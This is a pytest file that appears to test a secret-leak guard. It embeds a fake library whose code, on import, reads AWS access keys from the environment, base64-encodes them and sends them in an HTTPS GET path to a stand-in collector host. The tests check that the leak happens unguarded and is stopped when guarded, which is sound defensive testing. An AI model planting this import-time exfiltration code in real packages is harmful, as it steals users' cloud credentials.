# SPDX-License-Identifier: MIT
"""I-04, ctx and phpass: a library sends the environment as base64 in the path of an HTTPS GET.

No child process and no command line: Python itself, on import. The host was an application at a
provider whose whole domain a policy may well allow, as here.
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from urllib.parse import unquote

import pytest

from lab import Lab, tokens
from lab.guard import Guarded, assert_leak_stopped
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

HOST = "weather.collector.test"
POLICY = "version: 1\nallow: '*.collector.test'\n"
LIBRARY = f"""\
import base64, os, urllib.request

names = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")
text = "".join(f"{{name}}={{os.environ.get(name)}};" for name in names)
path = base64.b64encode(text.encode()).decode()
urllib.request.urlopen("https://{HOST}/hello/" + path).read()
"""


def job(lab: Lab) -> list[str]:
    """A program that imports the library."""
    (lab.directory / "ctx.py").write_text(LIBRARY)
    (lab.directory / "build.py").write_text("import ctx\nprint('built')\n")
    return [sys.executable, str(lab.directory / "build.py")]


def path_at(lab: Lab) -> bytes:
    """What the collector can read."""
    (seen,) = lab.collector.connections
    return bytes(seen.plain)


def test_unguarded_the_key_is_in_the_path(lab: Lab) -> None:
    key = tokens.cloud_key()
    assert lab.run(job(lab), env=key.env).stdout == "built\n"
    assert any(form in unquote(path_at(lab).decode()).encode() for form in key.forms)


@pytest.mark.parametrize("declared", [True, False], ids=["declared", "found"])
@pytest.mark.parametrize("mode", ["audit", "block"])
def test_guarded_the_path_is_never_sent(
    lab: Lab, leakstop: Guard, mode: str, declared: bool
) -> None:
    key = tokens.cloud_key()
    secrets: list[Token] = [key] if declared else []
    run = leakstop(job(lab), mode=mode, policy=POLICY, secrets=secrets, env=key.env)
    assert "built" not in run.stdout
    assert path_at(lab) == b"", "the handshake is all that arrived"
    assert_leak_stopped(run, key, finding="secret-in-tls", program="python", destination=HOST)
